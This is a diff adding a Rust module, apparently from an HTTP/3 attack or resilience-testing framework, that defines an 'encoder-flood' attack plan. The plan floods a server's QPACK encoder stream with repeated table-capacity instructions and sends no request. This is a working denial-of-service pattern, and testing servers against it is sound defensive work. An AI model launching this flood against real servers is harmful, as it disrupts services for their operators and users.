@@ -1,0 +1,31 @@
+//! Instructions on the QPACK encoder stream that change nothing.
+
+use crate::attack::{Plan, Victim};
+use crate::http;
+
+use super::{Crowd, crowd};
+
+/// How the attack is listed.
+pub(super) const PLAN: Plan = Plan {
+    name: "encoder-flood",
+    labels: &["A77"],
+    summary: "duplicates and new capacities on the QPACK encoder stream, and no request",
+    victim: Victim::Server,
+    make: || Box::new(encoder_flood()),
+};
+
+fn encoder_flood() -> Crowd {
+    Crowd::new(2, |connection, progress, _| {
+        let id = http::uni_stream(http::ENCODER);
+        // Capacities 0 and 1 in turn: each empties the table.
+        let bytes = [0x20, 0x21].repeat(500);
+        for _ in 0..BURST {
+            connection.push_bytes(http::stream(id, progress.encoder, &bytes, false));
+            progress.encoder += bytes.len() as u64;
+        }
+    })
+    .with_begin(crowd::preface)
+}
+
+/// Packets of one connection in one turn.
+const BURST: usize = 8;
